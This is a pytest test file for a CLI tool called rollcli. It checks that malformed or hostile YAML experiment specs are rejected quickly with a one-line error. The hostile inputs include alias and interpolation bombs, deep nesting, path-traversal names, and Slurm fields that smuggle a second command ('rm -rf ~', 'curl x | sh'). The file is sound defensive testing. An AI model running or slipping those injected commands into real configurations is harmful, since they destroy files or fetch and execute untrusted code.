"""Hostile and out-of-range specs: every one exits 2 with one line, within 2 s of CPU and 1 GB,
and nothing is created.

Each case is run as a real ``rollcli validate`` (and ``run`` where it matters) in a subprocess,
so a hang, a traceback or a memory blow-up is seen as the user would see it; CPU time and peak
memory come from the child's own rusage (wall clock on this shared machine is inflated).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

GOOD = """name: limits
backend: {kind: sim, num_train_prompts: 256, num_eval_prompts: 64}
budget: {steps: 3, rollouts_per_step: 128}
allocators:
  grpo: {kind: uniform, n: 8}
seeds: [0]
eval: {every: 1}
target: {baseline: grpo, metric: accuracy, at: final}
launch: {executor: local}
tracking: {wandb: {mode: disabled}}
"""


def _bomb(levels: int = 12) -> str:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return GOOD + "\n".join(lines) + "\n"


def _interpolation_bomb(levels: int = 40) -> str:
    extra = "vars:\n  v0: xxxxxxxxxx\n"
    for i in range(1, levels):
        extra += f"  v{i}: ${{vars.v{i - 1}}}${{vars.v{i - 1}}}\n"
    return GOOD.replace("name: limits", f"name: limits-${{vars.v{levels - 1}}}") + extra


def _verl_override_bomb(levels: int = 40) -> str:
    """Doubling references inside a section that accepts any keys (verl_overrides)."""
    lines = ["    v0: xxxxxxxxxx"]
    for i in range(1, levels):
        ref = f"${{backend.verl_overrides.v{i - 1}}}"
        lines.append(f"    v{i}: {ref}{ref}")
    backend = "backend:\n  kind: verl\n  verl_overrides:\n" + "\n".join(lines) + "\n"
    return GOOD.replace(
        "backend: {kind: sim, num_train_prompts: 256, num_eval_prompts: 64}\n", backend
    )


def _dynamic_key_bomb(levels: int = 40) -> str:
    """Doubling references whose keys are themselves interpolated (``${a.${b}}``): the static
    bound saw only the inner ``${b}`` and OmegaConf ran exponentially (issue 26)."""
    where = "backend.verl_overrides"
    lines = ["    v0: xxxxxxxxxx"]
    for i in range(1, levels):
        ref = f"${{{where}.${{{where}.k{i - 1}}}}}"
        lines += [f"    k{i - 1}: v{i - 1}", f"    v{i}: {ref}{ref}"]
    backend = "backend:\n  kind: verl\n  verl_overrides:\n" + "\n".join(lines) + "\n"
    return GOOD.replace(
        "backend: {kind: sim, num_train_prompts: 256, num_eval_prompts: 64}\n", backend
    )


def _deep(depth: int = 100_000) -> str:
    return GOOD + "deep: " + "[" * depth + "]" * depth + "\n"


CASES = {
    "alias-bomb": (_bomb(), "alias"),
    "interpolation-bomb-unknown-key": (_interpolation_bomb(), "vars"),
    "interpolation-bomb-known-key": (_verl_override_bomb(), "backend.verl_overrides"),
    "deep-nesting": (_deep(), "nest"),
    "interpolation-bomb-dynamic-key": (_dynamic_key_bomb(), "backend.verl_overrides"),
    "partition-newline": (
        GOOD.replace("launch: {executor: local}", 'launch: {partition: "gpu\\nrm -rf ~"}'),
        "launch.partition",
    ),
    "account-tab": (
        GOOD.replace("launch: {executor: local}", 'launch: {account: "a\\tb"}'),
        "launch.account",
    ),
    "qos-carriage-return": (
        GOOD.replace("launch: {executor: local}", 'launch: {qos: "q\\rx"}'),
        "launch.qos",
    ),
    "sbatch-extra-newline": (
        GOOD.replace(
            "launch: {executor: local}", 'launch: {sbatch_extra: ["--exclusive\\ncurl x | sh"]}'
        ),
        "launch.sbatch_extra",
    ),
    "huge-file": (GOOD + "# " + "x" * (12 << 20) + "\n", "too large"),
    "infinite-number": (GOOD.replace("n: 8", "n: .inf"), "allocators.grpo.n"),
    "huge-int": (GOOD.replace("steps: 3", "steps: " + "9" * 5000), "digits"),
    "lr-infinite": (GOOD.replace("kind: sim,", "kind: sim, lr: .inf,"), "backend.lr"),
    "lr-nan": (GOOD.replace("kind: sim,", "kind: sim, lr: .nan,"), "backend.lr"),
    "lr-negative": (GOOD.replace("kind: sim,", "kind: sim, lr: -0.1,"), "backend.lr"),
    "target-nan": (GOOD.replace("at: final}", "at: value, value: .nan}"), "target.value"),
    "target-rise-no-value": (GOOD.replace("at: final}", "at: rise}"), "target.value"),
    "target-rise-above-one": (GOOD.replace("at: final}", "at: rise, value: 1.5}"), "target.value"),
    "target-final-with-value": (
        GOOD.replace("at: final}", "at: final, value: 0.5}"),
        "target.value",
    ),
    "budget-negative": (
        GOOD.replace("rollouts_per_step: 128", "rollouts_per_step: -128"),
        "budget.rollouts_per_step",
    ),  # fmt: skip
    "name-too-long": (GOOD.replace("name: limits", "name: " + "n" * 300), "name"),
    "name-with-slash": (GOOD.replace("name: limits", "name: ../escape"), "name"),
    "allocator-name-slash": (
        GOOD.replace("  grpo: {kind", "  a/b: {kind").replace("baseline: grpo", "baseline: a/b"),
        "allocators",
    ),  # fmt: skip
    "pool-too-small": (
        GOOD.replace("rollouts_per_step: 128", "rollouts_per_step: 4096").replace(
            "num_train_prompts: 256", "num_train_prompts: 64"
        ),
        "budget.rollouts_per_step",
    ),
}


# A refusal costs well under a second of CPU (bounded per case); wall time only has to show
# nothing blocks, and on a loaded 2-core CI box with 3 test workers a 20 s bound was hit at
# 21 s (docs/LOG.md 2026-12-02, ci-speed). A read that blocks for ever hits the 60 s timeout.
WALL_S = 45

# Peak RSS comes from VmHWM, the high-water mark of this process's own address space: Linux
# carries ru_maxrss across fork and exec, so getrusage would report the (large) test runner's.
_CHILD = (
    "import atexit, os, resource\n"
    "def _report():\n"
    "    r = resource.getrusage(resource.RUSAGE_SELF)\n"
    "    hwm = next(l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
    "    os.write(int(os.environ['ROLLCLI_TEST_FD']), f'{r.ru_utime + r.ru_stime} {hwm}'.encode())\n"
    "atexit.register(_report)\n"
    "from rollcli.cli.app import main\nmain()\n"
)


def _run(
    args: list[str], cwd: Path, **env: str
) -> tuple[subprocess.CompletedProcess, float, int, float]:
    """Run the CLI; its own CPU seconds and peak RSS (kB) as it measured them at exit."""
    read_fd, write_fd = os.pipe()
    started = time.monotonic()
    try:
        proc = subprocess.run(
            [sys.executable, "-c", _CHILD, *args],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=cwd,
            pass_fds=(write_fd,),
            env={**os.environ, "COLUMNS": "200", "ROLLCLI_TEST_FD": str(write_fd), **env},
        )
    finally:
        os.close(write_fd)
    wall = time.monotonic() - started
    with os.fdopen(read_fd) as f:
        cpu, maxrss = f.read().split()
    return proc, float(cpu), int(maxrss), wall


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_spec_exits_2_with_one_line(case: str, tmp_path: Path) -> None:
    text, needle = CASES[case]
    spec = tmp_path / "spec.yaml"
    spec.write_text(text)
    proc, cpu, maxrss_kb, wall = _run(["validate", str(spec)], tmp_path)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2, (proc.returncode, proc.stderr[-2000:])
    assert len(lines) == 1 and lines[0].startswith(f"error: {spec}"), proc.stderr[-2000:]
    assert needle in lines[0], lines[0]
    assert cpu < 2.0, f"{cpu:.2f} s CPU"
    assert maxrss_kb < 1 << 20, f"{maxrss_kb / 1024:.0f} MB"
    assert wall < WALL_S


def test_fifo_and_non_regular_spec_paths_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "spec.yaml"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero"), tmp_path):
        proc, cpu, _, wall = _run(["validate", str(path)], tmp_path)
        assert proc.returncode == 2 and wall < WALL_S, (path, proc.stderr)
        assert len(proc.stderr.strip().splitlines()) == 1 and "regular file" in proc.stderr


def test_slurm_spec_without_slurm_fails_before_any_run_folder(tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        GOOD.replace("launch: {executor: local}", "launch: {executor: slurm, partition: p}")
    )
    runs = tmp_path / "runs"
    proc, cpu, _, _ = _run(
        ["run", str(spec), "--runs-dir", str(runs)], tmp_path, PATH="/nonexistent"
    )
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "sbatch" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert not runs.exists()


def test_an_extends_graph_listing_one_base_many_times_is_read_once(tmp_path: Path) -> None:
    """Five levels each listing the level below 20 times: 20^5 parses before (issue 26)."""
    (tmp_path / "l0.yaml").write_text(GOOD)
    for level in range(1, 6):
        below = ", ".join([f"l{level - 1}.yaml"] * 20)
        (tmp_path / f"l{level}.yaml").write_text(f"extends: [{below}]\n")
    spec = tmp_path / "spec.yaml"
    spec.write_text("extends: l5.yaml\nname: dag\n")
    proc, cpu, maxrss_kb, _ = _run(["validate", str(spec)], tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert cpu < 2.0 and maxrss_kb < 1 << 20, (cpu, maxrss_kb)


def test_extends_of_too_many_files_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "f0.yaml").write_text(GOOD)
    for i in range(1, 80):
        (tmp_path / f"f{i}.yaml").write_text(f"extends: f{i - 1}.yaml\n")
    proc, cpu, _, _ = _run(["validate", str(tmp_path / "f79.yaml")], tmp_path)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1 and "more than 64 spec files" in lines[0]


@pytest.mark.parametrize("value", ["[" * 3000 + "]" * 3000, "{a:" * 3000 + "1" + "}" * 3000])
def test_a_deep_override_is_one_line(value: str, tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(GOOD)
    for command in (["validate", str(spec)], ["sweep", str(spec), "--dry-run"]):
        if command[0] == "sweep":
            sweep = tmp_path / "sweep.yaml"
            sweep.write_text("base: spec.yaml\ngrid: {seeds: '[0],[1]'}\n")
            command = ["sweep", str(sweep), "--dry-run", "--runs-dir", str(tmp_path / "runs")]
        proc, cpu, _, _ = _run([*command, f"++x={value}"], tmp_path)
        lines = proc.stderr.strip().splitlines()
        assert proc.returncode == 2, proc.stderr[-2000:]
        assert len(lines) == 1 and "nested 3000 levels deep" in lines[0], proc.stderr[-2000:]
        assert cpu < 2.0


@pytest.mark.parametrize(
    ("axes", "needle"),
    [
        (
            "grid:\n" + "".join(f"  allocators.grpo.v{i}: 'range(0,100)'\n" for i in range(5)),
            "100 (allocators.grpo.v0) x 100 (allocators.grpo.v1) x 100 (allocators.grpo.v2) "
            "x 100 (allocators.grpo.v3) x 100 (allocators.grpo.v4) = 10,000,000,000 points",
        ),
        ("grid:\n  budget.steps: 'range(1,10000000000)'\n", "9,999,999,999 values"),
        (
            "sample: {count: 100000000, params: {allocators.grpo.n: 'choice(4,8)'}}\n",
            "sample.count",
        ),
        ("grid:\n  budget.steps: 'range(1,1001)'\nseeds: 'range(0,11)'\n", "11,000 train jobs"),
    ],
)
def test_a_sweep_is_bounded_before_it_is_expanded(axes: str, needle: str, tmp_path: Path) -> None:
    (tmp_path / "spec.yaml").write_text(GOOD)
    sweep = tmp_path / "sweep.yaml"
    sweep.write_text("base: spec.yaml\n" + axes)
    runs = tmp_path / "runs"
    proc, cpu, maxrss_kb, _ = _run(
        ["sweep", str(sweep), "--dry-run", "--runs-dir", str(runs)], tmp_path
    )
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert len(lines) == 1 and needle in lines[0], proc.stderr[-2000:]
    assert cpu < 3.0 and maxrss_kb < 1 << 20, (cpu, maxrss_kb)
    assert not runs.exists()
